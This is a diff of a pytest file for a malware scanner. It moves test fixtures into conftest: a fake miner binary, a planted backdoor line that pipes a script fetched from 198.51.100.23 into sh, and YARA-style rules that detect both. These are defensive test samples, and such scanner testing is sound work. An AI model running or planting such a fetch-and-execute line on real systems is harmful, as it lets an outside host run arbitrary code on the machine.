@@ -21,7 +21,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import EICAR
+from conftest import BACKDOOR_LINE, EICAR, MINER, MINER_RULES
 from feed_helpers import MARKER_A, MARKER_B, RULE_A, RULE_B, clean_dir, write_set
 
 from scanner import publish, update, watch
@@ -363,15 +363,6 @@ def test_watched_folder_removed_and_recreated(start, watched):
 
 
 # --- remediation as scan does it ---------------------------------------------------------------------
-
-MINER = b"\x7fELF" + b"\0" * 60 + b"TESTMINER-STRATUM-" + b"c0ffee" + b"\0" * 100
-BACKDOOR_LINE = "curl -s http://198.51.100.23/x.sh | sh  # added"
-MINER_RULES = """
-rule Test_Miner { meta: family = "TestMiner" severity = "high"
-    strings: $a = "TESTMINER-STRATUM-c0ffee" condition: $a }
-rule Test_Rc_Backdoor { meta: family = "TestMiner" severity = "high"
-    strings: $a = "198.51.100.23/x.sh | sh" condition: $a }
-"""
 
 
 def test_persistence_is_cleaned_and_undo_restores_everything(start, tmp_path, cli):
